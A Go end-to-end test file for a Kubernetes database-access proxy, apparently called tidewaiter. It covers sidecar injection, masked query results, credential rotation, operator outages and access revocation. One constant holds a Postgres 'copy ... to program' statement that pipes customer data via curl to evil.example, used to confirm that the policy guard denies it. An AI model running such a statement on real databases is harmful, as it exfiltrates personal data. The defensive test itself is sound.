package main

import (
	"context"
	"errors"
	"fmt"
	"strings"

	"github.com/tidewaiter/tidewaiter/test/clustertest"
)

// program is a statement that only the policy's guard stops.
const program = "copy customers to program 'curl -d @- http://evil.example';"

func ownerApplies(ctx context.Context, s *stage) error {
	return errors.Join(
		s.run(ctx, "kubectl create namespace data && kubectl apply -f manifests/", "datasource.tidewaiter.dev/orders created"),
		s.run(ctx, "kubectl wait -n data --for=condition=Ready --timeout=60s tds/orders tap/reporting", "orders condition met", "reporting condition met"),
		s.run(ctx, "kubectl get tds,tap -n data", "4 columns"),
	)
}

func podIsInjected(ctx context.Context, s *stage) error {
	err := errors.Join(
		s.run(ctx, "cat agent.yaml", "tidewaiter.dev/inject: data/orders"),
		s.run(ctx, "kubectl apply -f agent.yaml", "pod/report created"),
		s.run(ctx, "kubectl get pod report -n shop -o custom-columns='INIT:.spec.initContainers[*].name,RESTART:.spec.initContainers[*].restartPolicy,"+
			"\nCONTAINER:.spec.containers[*].name,ENV:.spec.containers[0].env[*].value'", "tidewaiter-proxy Always agent", "postgres://"),
		s.fails(ctx, 1, "kubectl get pod report -n shop -o yaml | grep -ciE 'secret|password|"+"shop_reader'", "0"),
	)
	if err != nil {
		return err
	}
	s.pod, err = s.cluster.Runs(ctx, "shop", "report")
	return err
}

func podIsRefused(ctx context.Context, s *stage) error {
	return errors.Join(
		s.run(ctx, "cat hostnetwork.yaml", "hostNetwork: true"),
		s.fails(ctx, 1, "kubectl apply -f hostnetwork.yaml", "spec.hostNetwork", "denied the request"),
		s.fails(ctx, 1, "kubectl get pod report-on-host -n shop", "NotFound"),
	)
}

func sidecarStarts(ctx context.Context, s *stage) error {
	err := errors.Join(
		s.run(ctx, "kubectl get pod report -n shop -o jsonpath='{.spec.initContainers[0].args}'", "--data-source data/orders"),
		s.startWatch(ctx, "kubectl get tses -n shop --watch"),
		s.startSidecar(ctx),
	)
	if err != nil {
		return err
	}
	return s.run(ctx, `tr '\0' '\n' </proc/$SIDECAR/environ; curl -s `+s.sidecar.Health()+"/readyz", "POD_NAME=report")
}

func agentWorks(ctx context.Context, s *stage) error {
	s.paper.Command("$", `psql "$DATABASE_URL"`)
	return errors.Join(
		s.connect(ctx),
		s.says("select name, email, ssn, born from customers;", "Ada Lovelace", "***@example.org", "*****", "1815-01-01"),
		s.says("select sum(total) from orders;", "(1 row)"),
		s.says(program, "ERROR: tidewaiter:", "is denied (policy data/reporting, guard Program)"),
		s.says("select count(*) from customers;", "3"),
	)
}

func clusterTells(ctx context.Context, s *stage) error {
	return errors.Join(
		s.settles(ctx, "kubectl get tses -n shop", "report orders Active"),
		s.run(ctx, "kubectl wait -n data --for=jsonpath='{.status.enforcement.summary}'=1/1 --timeout=60s tap/reporting", "condition met"),
		s.run(ctx, "kubectl describe tap reporting -n data | sed -n '/^Status:/,$p'", "Enforced", "1/1"),
	)
}

func policyChanges(ctx context.Context, s *stage) error {
	if err := s.run(ctx, `sed -i 's/, "public.orders"//' manifests/accesspolicy.yaml && kubectl apply -f manifests/accesspolicy.yaml`, "reporting configured"); err != nil {
		return err
	}
	return s.feels(ctx, "select sum(total) from orders;", "kubectl had ended", "ERROR: tidewaiter:", "public.orders")
}

func credentialChanges(ctx context.Context, s *stage) error {
	err := errors.Join(
		s.says("select current_user;", "shop_reader"),
		s.run(ctx, `psql "$OWNER" -f next-role.sql`, "CREATE ROLE"),
		s.run(ctx, "kubectl patch secret orders-db -n data --patch-file next-role.yaml", "patched"),
	)
	if err != nil {
		return err
	}
	const whoami = `psql "$DATABASE_URL" -c "select current_user"`
	took, err := until(ctx, whoami, func(ctx context.Context) error {
		out, exit, err := s.quietly(ctx, whoami)
		if err != nil || exit != 0 {
			return clustertest.Hopeless(errors.Join(err, fmt.Errorf("a connection failed meanwhile:\n%s", out)))
		}
		return holds(out, []string{nextRole})
	})
	if err != nil {
		return err
	}
	if err := s.run(ctx, whoami, nextRole); err != nil {
		return err
	}
	s.paper.Remark("This was the answer " + rounded(took) + " after kubectl had ended; no connection failed meanwhile.")
	return errors.Join(
		s.run(ctx, `psql "$OWNER" -c "alter role shop_reader nologin"`, "ALTER ROLE"),
		s.run(ctx, whoami, nextRole),
		s.says("select count(*) from customers;", "3"),
	)
}

func operatorIsGone(ctx context.Context, s *stage) error {
	s.paper.Command("$", fmt.Sprintf("kill -INT %d   # the operator", s.cluster.OperatorPID()))
	if err := s.cluster.StopOperator(); err != nil {
		return err
	}
	const count = `psql "$DATABASE_URL" -c "select count(*) from customers"`
	took, err := until(ctx, count, func(ctx context.Context) error {
		out, _, err := s.quietly(ctx, count)
		if err != nil {
			return clustertest.Hopeless(err)
		}
		return holds(out, []string{"tidewaiter:"})
	})
	if err != nil {
		return err
	}
	if err := s.fails(ctx, 2, count, "FATAL: tidewaiter:"); err != nil {
		return err
	}
	s.paper.Remark("So after " + rounded(took) + ". The running connection:")
	if err := s.says("select count(*) from customers;", "3"); err != nil {
		return err
	}
	return s.proxyRestarts(ctx, count)
}

// proxyRestarts kills the proxy while there is no operator, and brings both back.
func (s *stage) proxyRestarts(ctx context.Context, count string) error {
	s.paper.Command("$", fmt.Sprintf("kill -KILL %d   # the proxy; a kubelet would start it again, as it is here", s.sidecar.PID()))
	if err := s.sidecar.Kill(); err != nil {
		return err
	}
	s.agent.end()
	s.agent = nil
	var err error
	if s.sidecar, err = s.cluster.RunSidecar(ctx, s.pod); err != nil {
		return err
	}
	ready := "curl -s " + s.sidecar.Health() + "/readyz"
	if err := s.settles(ctx, ready, "operator"); err != nil {
		return err
	}
	if err := s.fails(ctx, 2, count); err != nil {
		return err
	}
	s.paper.Remark("The operator comes back.")
	if err := errors.Join(s.cluster.StartOperator(ctx), s.sidecar.Ready(ctx)); err != nil {
		return err
	}
	s.paper.Command("$", `psql "$DATABASE_URL"`)
	return errors.Join(s.connect(ctx), s.says("select count(*) from customers;", "3"))
}

func accessIsRevoked(ctx context.Context, s *stage) error {
	if err := s.run(ctx, "kubectl label namespace shop team-", "namespace/shop unlabeled"); err != nil {
		return err
	}
	const statement = "select name from customers where id = 1;"
	var last []byte
	took, err := until(ctx, "the running connection is cut off", func(context.Context) error {
		out, gone, err := s.agent.ask(statement)
		if err != nil {
			return clustertest.Hopeless(err)
		}
		if last = out; !gone {
			return errors.New("it goes on")
		}
		return nil
	})
	if err != nil {
		return err
	}
	s.agent.end()
	s.agent = nil
	s.paper.Command("shop=>", statement)
	if err := s.answer(last, []string{"tidewaiter:"}); err != nil {
		return err
	}
	s.paper.Remark("This was the answer " + rounded(took) + " after kubectl had ended.")
	if err := s.settles(ctx, "kubectl get tses -n shop", "Revoked"); err != nil {
		return err
	}
	s.paper.Command("$", "kubectl get tses -n shop --watch   # since the sidecar's start")
	out := s.watch.end()
	s.watch = nil
	return s.answer(out, []string{"Active", "Revoked"})
}

// plain and in base64, as a Secret has it.
func shapes(passwords []string) []string {
	var out []string
	for _, p := range passwords {
		out = append(out, p, strings.TrimRight(base64Of(p), "="))
	}
	return out
}
